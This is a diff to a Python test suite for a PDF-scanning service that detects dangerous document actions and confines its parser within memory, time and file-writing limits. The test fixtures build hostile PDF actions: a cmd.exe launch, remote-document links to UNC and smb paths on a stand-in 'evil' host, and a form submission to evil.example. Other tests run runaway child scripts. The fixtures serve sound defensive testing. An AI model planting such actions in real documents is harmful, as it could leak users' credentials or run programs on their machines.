@@ -1,6 +1,7 @@
 """A PDF is told by its structure: what may act or hides a file is named, what is only called so passes."""
 
 import io
+import signal
 import subprocess
 import sys
 from zlib import compress
@@ -94,6 +95,11 @@ ACTIVE = {
     ),
     "a script in the torn half": (written(script)[:-40], "JavaScript 脚本"),
     "a launch": (pdf(b"<</S/L#61unch/F(cmd.exe)>>"), "打开其他程序"),
+    "a document on a server": (pdf(rb"<</S/GoToR/F(\\\\\\\\evil\\\\x)/D[0/Fit]>>"), "打开其他程序或文件"),
+    "the same, described": (
+        pdf(b"<</S/GoToR/F<</UF(smb://evil/x)>>/D[0/Fit]>>"),
+        "打开其他程序或文件",
+    ),
     "a form that is sent": (pdf(b"<</S/SubmitForm/F(http://evil.example)>>"), "表单动作"),
     "data brought in": (pdf(b"<</S/ImportData/F(a.fdf)>>"), "表单动作"),
     "a film": (pdf(b"<</S/Rendition/OP 0>>"), "音频、视频"),
@@ -140,6 +146,8 @@ HONEST = {
         S=Name.URI, URI="https://developer.mozilla.org/docs/Web/JavaScript"
     ),
     "a link to a place called JavaScript": link(S=Name.GoTo, D=Name.JavaScript),
+    "a document beside it": link(S=Name.GoToR, F="附件1.pdf", D=Array([0, Name.Fit])),
+    "a book of 100,000 objects": pdf(*[b"<</A[1 2 3]>>"] * 100_000),
     "places called so": pdf(catalogue=b"/Dests<</JavaScript[3 0 R/Fit]/Launch[3 0 R/Fit]>>"),
     "words that say so": pdf(b"(/S /JavaScript)", b"<</Title(/Launch)>>"),
     "a font called EF": pdf(b"<</Font<</EF<</Type/Font/Subtype/Type1/BaseFont/Times-Roman>>>>>>"),
@@ -214,20 +222,35 @@ def test_a_child_that_dies_is_a_refusal(case, monkeypatch, tmp_path, folder):
     assert [path for path in folder.rglob("*") if path.is_file()] == []
 
 
-def test_the_child_keeps_to_its_memory_and_time(tmp_path):
-    """The limits are the system's: what asks for more gets none."""
-    greedy = tmp_path / "greedy.pdf"
-    greedy.write_bytes(pdf(*[b"<</A[1 2 3]>>"] * 100_000))
+@pytest.mark.parametrize(
+    ("greedy", "ended"),
+    [
+        ("while True: pass", -signal.SIGKILL),
+        ("bytes(300_000_000)", 1),
+        ("import os; os.write(os.open('left', os.O_CREAT | os.O_WRONLY), b'x')", 1),
+        ("pass", 0),
+    ],
+)
+def test_what_is_confined_gets_no_more_time_memory_or_room(greedy, ended, tmp_path):
+    (tmp_path / "child.py").write_text(greedy)
+    command = [sys.executable, "-I", str(apart.CONFINED), "child.py", str(200 * 2**20), "1"]
 
-    def status(*limits: int) -> int:
-        with greedy.open("rb") as file:
-            files = map(str, (apart.CONFINED, contents_pdf.CHILD))
-            command = [sys.executable, "-I", *files, *map(str, limits)]
-            return subprocess.run(command, stdin=file, stderr=subprocess.DEVNULL, timeout=60).returncode
+    with (tmp_path / "child.py").open("rb") as file:
+        child = subprocess.run(command, stdin=file, cwd=tmp_path, stderr=subprocess.PIPE, timeout=60)
 
-    assert status(2**30, 20, 200_000, 50) == 0
-    assert status(60 * 2**20, 20, 200_000, 50) == contents_pdf.Finding.COMPLEX
-    assert status(2**30, 1, 200_000, 50) < 0
+    assert child.returncode == ended, child.stderr
+
+
+def test_less_memory_than_its_limit_is_enough_for_an_honest_one(tmp_path):
+    """Whoever starts the portal may give it less than a child asks for."""
+    (tmp_path / "a.pdf").write_bytes(pdf())
+    files = map(str, (apart.CONFINED, contents_pdf.CHILD))
+    command = [sys.executable, "-I", *files, str(2**30), "20", "200000", "50"]
+
+    with (tmp_path / "a.pdf").open("rb") as file:
+        ended = subprocess.run(["sh", "-c", 'ulimit -v 500000; exec "$@"', "sh", *command], stdin=file)
+
+    assert ended.returncode == contents_pdf.Finding.CLEAN
 
 
 def test_no_process_is_a_refusal_not_a_fault(monkeypatch):
